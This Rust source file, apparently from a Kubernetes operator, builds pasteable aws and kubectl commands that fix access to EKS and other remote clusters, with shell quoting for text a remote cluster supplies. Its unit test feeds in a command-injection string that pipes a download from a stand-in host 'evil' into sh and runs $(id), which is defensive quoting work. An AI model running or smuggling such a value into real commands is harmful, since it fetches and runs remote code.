//! Commands that mend the way to a remote cluster, ready to be pasted.

use serde_json::json;

use crate::eks::arn::{ClusterArn, RoleArn};
use crate::eks::error::EksError;
use crate::remote::crd::RemoteCluster;

/// What `deploy/remote-access.yaml` gives its Role to.
const GROUP: &str = "mw-sync-master";

/// For what AWS has refused, or a cluster of AWS's, where the ARNs in `spec.eks` are all it takes.
pub(super) fn aws(error: &EksError, cluster: &RemoteCluster) -> Option<String> {
    let (arn, role) = named(cluster)?;
    let of_cluster = format!("--region {} --name {}", arn.region(), arn.name());
    let command = match error {
        EksError::AssumeRoleDenied { role, .. } => {
            format!("aws iam get-role --role-name {} --query Role.AssumeRolePolicyDocument", base(role))
        }
        EksError::DescribeDenied { .. } => {
            let statement = json!({ "Effect": "Allow", "Action": "eks:DescribeCluster", "Resource": arn.to_string() });
            let policy = json!({ "Version": "2012-10-17", "Statement": [statement] });
            // One of its own: what other policies of the role allow stays allowed.
            let to = format!("--role-name {} --policy-name mw-sync-describe-{}", base(&role?), arn.name());
            format!("aws iam put-role-policy {to} --policy-document '{policy}'")
        }
        EksError::ClusterNotFound { .. } => format!("aws eks list-clusters --region {}", arn.region()),
        EksError::ClusterNotActive(_) => format!("aws eks wait cluster-active {of_cluster}"),
        EksError::NotReachable { restricted: true, .. } => {
            format!("aws eks describe-cluster {of_cluster} --query cluster.resourcesVpcConfig")
        }
        EksError::Unauthorised { role: Some(role), .. } => entry("create", &arn, role),
        _ => return None,
    };
    Some(format!("in account {}: {command}", arn.account()))
}

/// Binds whom we come as to the Role that we need there. `user` is what the remote cluster calls us.
pub(super) fn rights(cluster: &RemoteCluster, user: Option<&str>, destination: &str) -> String {
    let place = if destination == "operator" { "" } else { &format!(", with {destination} for operator in both") };
    let role = format!(
        "if it has no such Role: kubectl apply -f deploy/namespace.yaml -f deploy/remote-access.yaml there{place}"
    );
    let (arn, principal) = named(cluster).unzip();
    let bind = match (arn, principal.flatten().or_else(|| user.and_then(RoleArn::of_caller))) {
        (Some(arn), Some(principal)) => format!(
            "in account {}: {}; that sets all groups of the entry, and where ConfigMap aws-auth maps the role it is there \
             that the group {GROUP} is missing",
            arn.account(),
            entry("update", &arn, &principal)
        ),
        (None, Some(principal)) => format!("give the access entry of {principal} the Kubernetes group {GROUP}"),
        (_, None) => {
            let user = user.and_then(quoted).unwrap_or_else(|| "USER".to_owned());
            let bind = format!("create rolebinding {GROUP}-user --role=mw-sync-remote --user={user}");
            format!("in that cluster: kubectl -n {destination} {bind}")
        }
    };
    format!("{bind}; {role}")
}

/// The cluster and the role in `spec.eks`.
fn named(cluster: &RemoteCluster) -> Option<(ClusterArn, Option<RoleArn>)> {
    let eks = cluster.spec.eks.as_ref()?;
    Some((eks.arn.parse().ok()?, eks.role_arn.as_ref().and_then(|role| role.parse().ok())))
}

fn entry(verb: &str, arn: &ClusterArn, role: &RoleArn) -> String {
    let of = format!("--region {} --cluster-name {}", arn.region(), arn.name());
    format!("aws eks {verb}-access-entry {of} --principal-arn {role} --kubernetes-groups {GROUP}")
}

/// A role's name, without its path.
fn base(role: &RoleArn) -> String {
    role.to_string().rsplit('/').next().unwrap_or_default().to_owned()
}

/// What a remote cluster has said, as one word of a shell: it is pasted. `None` if it was cut on its way here.
fn quoted(said: &str) -> Option<String> {
    (!said.ends_with('…')).then(|| format!("'{}'", said.replace('\'', r"'\''")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_cluster_says_stays_one_word_of_the_shell() {
        let cluster = serde_json::from_value(json!({
            "apiVersion": "mw-sync.io/v1alpha1", "kind": "RemoteCluster", "metadata": { "name": "a" },
            "spec": { "kubeconfig": { "secretName": "a" } },
        }));
        let cluster: RemoteCluster = cluster.unwrap();
        for (user, word) in [
            (Some("system:serviceaccount:a:b"), "--user='system:serviceaccount:a:b';"),
            (Some("x'; curl evil | sh; echo '$(id)"), r"--user='x'\''; curl evil | sh; echo '\''$(id)';"),
            (Some("cut…"), "--user=USER;"),
            (None, "--user=USER;"),
        ] {
            let told = rights(&cluster, user, "operator");
            assert!(told.starts_with("in that cluster: kubectl -n operator ") && told.contains(word), "{told}");
        }
        let told = rights(&cluster, Some("arn:aws:sts::111122223333:assumed-role/mw-sync/session"), "operator");
        assert!(told.starts_with("give the access entry of arn:aws:iam::111122223333:role/mw-sync the"), "{told}");
    }
}
